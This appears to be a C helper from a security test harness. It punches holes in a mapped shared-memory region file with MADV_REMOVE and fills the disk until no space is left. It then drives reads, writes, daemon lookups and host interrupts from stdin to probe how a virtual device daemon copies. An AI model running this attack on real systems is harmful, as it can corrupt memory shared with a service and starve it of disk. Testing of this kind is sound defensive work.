/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Takes pages out of the file of a store, and leaves no room for others.
 *
 *   punch DATA OFFSET PAGES FILL_DIRECTORY
 *
 * DATA is mapped; if it is of a managed region, after a claim. FILL_DIRECTORY is a region that is made as
 * large as there is room. Says `full` then, and after it what each of the lines on standard input brings,
 * 0 or an errno: `look OFFSET` (the daemon looks at a word), `write OFFSET`, `read OFFSET`, `ring`.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "areas.h"
#include "attacker.h"

static void fill(const char *directory) {
  char path[4096];
  if (mkdir(directory, 0700) < 0) fail("mkdir");
  snprintf(path, sizeof path, "%s/data", directory);
  off_t size = 1 << 20;
  for (off_t step = 4 << 20; step >= PAGE;) {
    if (truncate(path, size + step) == 0) {
      size += step;
    } else {
      if (errno != ENOSPC) fail("truncate");
      step /= 2;
    }
  }
}

int attack_punch(int argc, char **argv) {
  (void)argc;
  int fd = open_or_fail(argv[1], O_RDWR);
  int error = claim(fd, 0x2000, 2, 0x2000, 7);
  if (error && error != EPERM) fail("claim");
  struct stat status;
  if (fstat(fd, &status) < 0) fail("stat");
  char *memory = mmap(NULL, (size_t)status.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (memory == MAP_FAILED) fail("mmap");
  if (madvise(memory + number(argv[2]), (size_t)number(argv[3]) * PAGE, MADV_REMOVE) < 0)
    fail("MADV_REMOVE");
  fill(argv[4]);
  say("full");
  char line[64], verb[16];
  unsigned offset = 0;
  while (fgets(line, sizeof line, stdin)) {
    char byte = 1;
    if (sscanf(line, "%15s %x", verb, &offset) < 1) continue;
    error = 0;
    if (strcmp(verb, "look") == 0) {
      error = look(fd, offset);
    } else if (strcmp(verb, "ring") == 0) {
      error = ioctl(fd, VSOC_SEND_INTERRUPT_TO_HOST) < 0 ? errno : 0;
    } else if (strcmp(verb, "write") == 0) {
      error = pwrite(fd, &byte, 1, offset) < 0 ? errno : 0;
    } else if (strcmp(verb, "read") == 0) {
      error = pread(fd, &byte, 1, offset) < 0 ? errno : 0;
    }
    say("%s", error ? strerrorname_np(error) : "0");
  }
  return 0;
}
